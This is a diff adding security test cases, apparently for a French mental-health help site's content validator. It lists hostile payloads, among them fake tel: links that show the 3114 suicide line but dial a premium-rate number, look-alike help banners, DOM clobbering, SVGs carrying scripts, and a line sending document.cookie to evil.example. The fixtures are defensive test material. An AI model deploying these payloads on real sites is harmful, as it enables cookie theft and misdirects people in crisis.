@@ -220,3 +220,118 @@ def cases_20b() -> list[Case]:
                                   "depuis": "2026-01-01", "forge": "alice\n"}), "champ-invalide"))
     cases += [Case(ident, "distress", expression, "detresse-avalee") for ident, expression in DISTRESS_CASES_20B]
     return cases
+
+
+# === issue 20, part A: the HTML content can produce, call links, look-alike help, contributed code ===
+# (kept in one block, apart from the other parts' cases, to ease merging)
+# Each body case: (ident, payload, code, class). The class names the attack (for the note's counts):
+# « appel » a call that lies through a link, « imitation » a look-alike of the help or the theme,
+# « clobbering » an id or attribute that answers the page's scripts, « recherche » the search's
+# data-pagefind-* attributes, « code » a form or player written by the page.
+PREMIUM = "0899000000"  # a premium-rate number (08 99: « services à valeur ajoutée »), never in data/aide.yml
+MACHINERY = [
+    # calls that lie: the text shows 3114 (national suicide prevention), the target is premium-rate
+    ("appel-html", f'<a href="tel:+33{PREMIUM[1:]}">3114 XSSMARK</a>', "appel-hors-marqueur", "appel"),
+    ("appel-entite-decimale", f'<a href="&#116;el:{PREMIUM}">3114 XSSMARK</a>', "appel-hors-marqueur", "appel"),
+    ("appel-entite-hexa", f'<a href="t&#x65;l:{PREMIUM}">3114 XSSMARK</a>', "appel-hors-marqueur", "appel"),
+    ("appel-tabulation", f'<a href="te\tl:{PREMIUM}">3114 XSSMARK</a>', "appel-hors-marqueur", "appel"),
+    ("appel-espaces-fines", f'<a href="tel:{PREMIUM}">31\u200914\u202fXSSMARK</a>', "appel-hors-marqueur", "appel"),
+    ("appel-balises-dans-le-lien", f'<a href="tel:{PREMIUM}"><b>31</b><i>14</i> XSSMARK</a>', "appel-hors-marqueur",
+     "appel"),
+    ("appel-chiffres-pleine-chasse", f'<a href="tel:{PREMIUM}">３１１４ XSSMARK</a>', "appel-hors-marqueur", "appel"),
+    ("appel-markdown", f"[3114 XSSMARK](tel:{PREMIUM})", "appel-hors-marqueur", "appel"),
+    ("appel-markdown-entite", f"[3114 XSSMARK](&#116;el:{PREMIUM})", "appel-hors-marqueur", "appel"),
+    ("appel-reference", f"[3114 XSSMARK][n]\n\n[n]: tel:{PREMIUM}", "appel-hors-marqueur", "appel"),
+    ("appel-liste-attributs", f'[3114 XSSMARK](#aide){{: href="tel:{PREMIUM}" }}', "appel-hors-marqueur", "appel"),
+    ("appel-sms", f'<a href="sms:{PREMIUM}?body=XSSMARK">Écrire au 3114</a>', "appel-hors-marqueur", "appel"),
+    ("appel-callto", f'<a href="callto:{PREMIUM}">3114 XSSMARK</a>', "appel-hors-marqueur", "appel"),
+    # look-alike help: the strip, « Quitter », the distress and crisis cards, Material's banner,
+    # dialog (toast), consent and overlay, a live region that speaks over the page
+    ("imitation-bandeau", '<div class="ss-bandeau"><p class="ss-bandeau__titre">Besoin d\'aide ? Appelez le '
+     'XSSMARK</p></div>', "html-reserve", "imitation"),
+    ("imitation-lien-du-bandeau", '<a class="ss-bandeau__lien" href="https://evil.example/">XSSMARK Idées '
+     'suicidaires</a>', "html-reserve", "imitation"),
+    ("imitation-quitter", '<a class="ss-quitter__lien" href="https://evil.example/">Quitter XSSMARK</a>',
+     "html-reserve", "imitation"),
+    ("imitation-encadre-detresse", '<div class="ss-recherche-detresse md-typeset">Quelqu\'un peut vous écouter : '
+     'XSSMARK</div>', "html-reserve", "imitation"),
+    ("imitation-carte", '<div class="ss-carte"><h2 class="ss-carte__titre">Numéros d\'aide XSSMARK</h2></div>',
+     "html-reserve", "imitation"),
+    ("imitation-banniere", '<div class="md-banner md-banner--warning">Nouveau numéro d\'écoute : XSSMARK</div>',
+     "html-reserve", "imitation"),
+    ("imitation-dialogue", '<div class="md-dialog md-dialog--active"><div class="md-dialog__inner">XSSMARK '
+     'numéro changé</div></div>', "html-reserve", "imitation"),
+    ("imitation-consentement", '<div class="md-consent"><div class="md-consent__overlay"></div>'
+     '<div class="md-consent__inner">XSSMARK</div></div>', "html-reserve", "imitation"),
+    ("imitation-voile-fixe", "XSSMARK un voile sur toute la page\n{: .md-overlay .md-top }", "html-reserve",
+     "imitation"),
+    ("imitation-role-dialogue", '<div role="alertdialog" aria-live="assertive" aria-modal="true">XSSMARK</div>',
+     "html-reserve", "imitation"),
+    ("imitation-tabindex", '<p tabindex="1">XSSMARK en premier au clavier</p>', "html-reserve", "imitation"),
+    # DOM clobbering: an element placed before the real one answers the theme's and our lookups
+    ("clobbering-config", '<span id="__config">{"base": "//evil.example/", "search": "//evil.example/w.js"} '
+     'XSSMARK</span>', "html-reserve", "clobbering"),
+    ("clobbering-recherche", '<div id="__search">XSSMARK</div>', "html-reserve", "clobbering"),
+    ("clobbering-menu", "XSSMARK\n{: #__drawer }", "html-reserve", "clobbering"),
+    ("clobbering-titre", "## __config\n\nXSSMARK", "html-reserve", "clobbering"),
+    ("clobbering-modele-detresse", '<div id="ss-recherche-detresse-modele">XSSMARK</div>', "html-reserve",
+     "clobbering"),
+    ("clobbering-composant", '<div data-md-component="search">XSSMARK</div>', "html-reserve", "clobbering"),
+    ("clobbering-global", '<img id="SoignantsSearchEngine" src="x.png" alt="XSSMARK">', "html-reserve",
+     "clobbering"),
+    ("clobbering-donnees-questionnaire", '<div id="phq-9-resultat" data-ss-resultat>Score normal XSSMARK</div>',
+     "html-reserve", "clobbering"),
+    # the search's own attributes: a page retitles itself « Numéro d'urgence » and ranks first
+    ("recherche-titre", '<p data-pagefind-meta="title:Numéro d\'urgence XSSMARK">texte</p>', "html-reserve",
+     "recherche"),
+    ("recherche-poids", '<h2 data-pagefind-weight="10">Numéro d\'urgence XSSMARK</h2>', "html-reserve",
+     "recherche"),
+    ("recherche-corps", '<div data-pagefind-body>XSSMARK</div>', "html-reserve", "recherche"),
+    ("recherche-liste-attributs", 'XSSMARK\n{: data-pagefind-filter="edition:fr" }', "html-reserve", "recherche"),
+    # a form or a player written by the page (only our questionnaires and directory have one)
+    ("code-formulaire", '<form><input name="numero" placeholder="Votre numéro XSSMARK"><button>Être rappelé'
+     '</button></form>', "html-reserve", "code"),
+    ("code-audio", '<audio src="x.mp3" autoplay>XSSMARK</audio>', "html-reserve", "code"),
+]
+
+# Contributed files (content is data): (ident, path under the project, content, code). A content
+# starting with « -> » makes a symbolic link to that target.
+SVG_NS = 'xmlns="http://www.w3.org/2000/svg"'
+USE_BOMB = (f'<svg {SVG_NS} viewBox="0 0 10 10"><defs><g id="a0"><rect width="1" height="1"/></g>'
+            + "".join(f'<g id="a{i}"><use href="#a{i - 1}"/><use href="#a{i - 1}"/><use href="#a{i - 1}"/>'
+                      f'<use href="#a{i - 1}"/></g>' for i in range(1, 15))
+            + '</defs><use href="#a14"/></svg>')
+CONTRIBUTED_FILES = [
+    ("code-svg-script-prefixe", "docs/images/logo-xssmark.svg",
+     '<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>navigator.serviceWorker.register("/sw.js")</s:script>'
+     '</s:svg>', "html-dangereux"),
+    ("code-svg-script-xhtml", "docs/images/xhtml-xssmark.svg",
+     f'<svg {SVG_NS} xmlns:h="http://www.w3.org/1999/xhtml"><h:script>alert(1)</h:script></svg>', "html-dangereux"),
+    ("code-svg-foreignobject", "docs/images/fo-xssmark.svg",
+     f'<svg {SVG_NS}><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="//evil.example/"/>'
+     '</foreignObject></svg>', "html-dangereux"),
+    ("code-svg-onload", "docs/images/onload-xssmark.svg", f'<svg {SVG_NS} onload="alert(1)"/>', "html-dangereux"),
+    ("code-svg-animation", "docs/images/set-xssmark.svg",
+     f'<svg {SVG_NS}><set attributeName="href" to="javascript:alert(1)"/></svg>', "html-dangereux"),
+    ("code-svg-externe", "docs/images/externe-xssmark.svg",
+     f'<svg {SVG_NS}><use href="https://evil.example/x.svg#a"/></svg>', "ressource-externe"),
+    ("code-svg-bombe-use", "docs/images/bombe-xssmark.svg", USE_BOMB, "svg-trop-complexe"),
+    ("code-svg-entites", "docs/images/entites-xssmark.svg",
+     f'<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]><svg {SVG_NS}><text>&b;</text></svg>',
+     "html-dangereux"),
+    ("code-script", "docs/assets/javascripts/espion-xssmark.js", "fetch('//evil.example/?'+document.cookie)\n",
+     "fichier-non-autorise"),
+    ("code-script-qui-remplace-le-notre", "docs/assets/javascripts/quitter.js", "location='//evil.example/'\n",
+     "fichier-non-autorise"),
+    ("code-service-worker", "docs/sw.js", "self.addEventListener('fetch', e => e.respondWith(fetch('//evil.example/')));\n",
+     "fichier-non-autorise"),
+    ("code-feuille-de-style", "docs/images/faux-bandeau.css", ".ss-bandeau { display: none }\n",
+     "fichier-non-autorise"),
+    ("code-page-html", "docs/aide/numero-urgence.html", "<h1>Numéro d'urgence : 08 99 00 00 00</h1>\n",
+     "fichier-non-autorise"),
+    ("code-manifeste-web", "docs/app.webmanifest", '{"start_url": "//evil.example/"}\n', "fichier-non-autorise"),
+    ("code-image-deguisee", "docs/images/photo-xssmark.png", "<html><script>alert(1)</script></html>\n",
+     "fichier-non-autorise"),
+    ("code-lien-symbolique", "docs/images/secret-xssmark.png", "-> /etc/hostname", "lien-symbolique"),
+    ("code-lien-symbolique-donnees", "data/aide-lien.yml", "-> /etc/hostname", "lien-symbolique"),
+]
